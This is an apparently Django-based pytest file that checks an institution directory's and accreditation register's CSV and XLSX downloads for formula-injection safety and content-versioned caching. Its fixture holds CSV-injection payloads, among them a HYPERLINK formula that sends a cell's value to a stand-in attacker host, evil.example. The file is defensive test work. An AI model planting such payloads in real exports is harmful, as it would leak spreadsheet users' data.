"""Every table download (directory, register, transparency) is formula-safe and cached under the
content version: hostile titles read back with csv and openpyxl are text, never a formula; numbers
stay numbers; a repeated or reordered query is served from the cache, a published change is not."""

import csv
import io
import json
from decimal import Decimal

import pytest
from openpyxl import load_workbook

import accreditation.register
import api.downloads
import transparency.views
from core.downloads import FORMULA_TRIGGERS, csv_bytes, xlsx_bytes

from .accreditation_factories import AccreditationDecisionPageFactory, DecisionIndexPageFactory
from .factories import DistrictFactory, InstitutionPageFactory, RegionFactory

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)


@pytest.fixture
def hostile(directory, home):
    region = RegionFactory(name="=1+1", slug="chui")
    district = DistrictFactory(region=region, name="-1", slug="alamudun")
    register = DecisionIndexPageFactory(parent=home)
    pages = []
    for number, title in enumerate(HOSTILE):
        page = InstitutionPageFactory(
            parent=directory,
            title=title,
            slug=f"hostile-{number}",
            district=district,
            head_name="@cmd",
            address="+996 312 00 00 00",
            year_founded=1990 + number,
        )
        AccreditationDecisionPageFactory(parent=register, institution=page, number=f"={number}")
        pages.append(page)
    return {"pages": pages, "register": register}


def csv_cells(response):
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_formula_free_csv(cells):
    assert cells
    risky = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert risky == []
    for title in HOSTILE:
        assert "'" + title in cells  # the value is kept, shown as text


def assert_formula_free_xlsx(cells):
    assert cells
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [value for value in values if value.startswith(FORMULA_TRIGGERS)] == []
    for title in HOSTILE:
        assert "'" + title.lstrip("\r") in values or "'" + title in values


def download_urls(hostile):
    register = hostile["register"].url
    return [
        "/ky/institutions/download/?format={}",
        register + "?format={}",
        "/ky/transparency/?format={}&table=institutions",
    ]


def test_every_csv_download_neutralises_formulas(client, hostile):
    for url in download_urls(hostile):
        response = client.get(url.format("csv"))
        assert response.status_code == 200, url
        assert_formula_free_csv(csv_cells(response))


def test_every_xlsx_download_writes_text_as_text(client, hostile):
    for url in download_urls(hostile):
        response = client.get(url.format("xlsx"))
        assert response.status_code == 200, url
        assert_formula_free_xlsx(xlsx_cells(response))


def test_numbers_stay_numbers_in_the_directory_downloads(client, hostile):
    sheet = load_workbook(io.BytesIO(client.get("/ky/institutions/download/?format=xlsx").content)).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    row = next(sheet.iter_rows(min_row=2, max_row=2))
    for column in ("latitude", "longitude", "year_founded"):
        cell = row[header.index(column)]
        assert cell.data_type == "n" and isinstance(cell.value, (int, float)), column
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/ky/institutions/download/?format=csv").content.decode("utf-8").lstrip("\ufeff"))
        )
    )
    assert {row["year_founded"] for row in rows} == {str(1990 + n) for n in range(len(HOSTILE))}
    assert {row["address"] for row in rows} == {"'+996 312 00 00 00"}


def test_json_keeps_the_values_unchanged(client, hostile):
    data = json.loads(client.get("/ky/institutions/download/?format=json").content)
    assert {row["name"] for row in data["institutions"]} == set(HOSTILE)


def test_the_writer_decides_by_type():
    rows = [[-5, "-5", Decimal("-1.5"), 2.5, None, "plain", "a=b"]]
    text = csv_bytes(["n", "s", "d", "f", "none", "t", "u"], rows).decode("utf-8").lstrip("\ufeff")
    assert text.splitlines()[1] == "-5,'-5,-1.5,2.5,,plain,a=b"
    sheet = load_workbook(io.BytesIO(xlsx_bytes({"t": (["a"] * 7, rows)}))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells] == [-5, "'-5", -1.5, 2.5, None, "plain", "a=b"]
    assert [cell.data_type for cell in cells[:4]] == ["n", "s", "n", "n"]


def test_xlsx_drops_characters_excel_cannot_hold():
    sheet = load_workbook(io.BytesIO(xlsx_bytes({"t": (["a"], [["bad\x00\x01text"]])}))).active
    assert sheet["A2"].value == "badtext"


@pytest.fixture
def real_cache(settings):
    settings.CACHES = {
        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "downloads-test"}
    }
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


def counting(monkeypatch, module, name):
    calls = []
    original = getattr(module, name)

    def wrapper(*args, **kwargs):
        calls.append(1)
        return original(*args, **kwargs)

    monkeypatch.setattr(module, name, wrapper)
    return calls


@pytest.mark.parametrize(
    "module, name, url, same, other",
    [
        (
            api.downloads,
            "directory_rows",
            "/ky/institutions/download/",
            "format=csv&region=chui&sort=name",
            ("sort=name&utm_source=x&region=chui&format=csv", "format=csv"),
        ),
        (
            accreditation.register,
            "download_rows",
            "REGISTER",
            "format=csv&region=chui",
            ("utm_source=x&region=chui&format=csv&page=3", "format=csv"),
        ),
        (
            transparency.views,
            "transparency_statistics",
            "/ky/transparency/",
            "format=csv&table=institutions",
            ("table=institutions&format=csv&utm_source=x", "format=csv&table=regions"),
        ),
    ],
)
def test_downloads_are_cached_under_the_content_version(
    client, hostile, real_cache, monkeypatch, module, name, url, same, other, django_capture_on_commit_callbacks
):
    url = hostile["register"].url if url == "REGISTER" else url
    calls = counting(monkeypatch, module, name)
    first = client.get(f"{url}?{same}")
    assert first.status_code == 200 and len(calls) == 1
    reordered, different = other
    again = client.get(f"{url}?{reordered}")
    assert again.content == first.content and len(calls) == 1  # served from the cache
    client.get(f"{url}?{different}")
    assert len(calls) == 2  # another selection is another file

    page = hostile["pages"][0]
    page.title = "=Renamed()"
    with django_capture_on_commit_callbacks(execute=True):  # the content version moves on at the commit
        page.save_revision().publish()
    changed = client.get(f"{url}?{same}")
    assert len(calls) == 3
    assert "'=Renamed()" in csv_cells(changed)
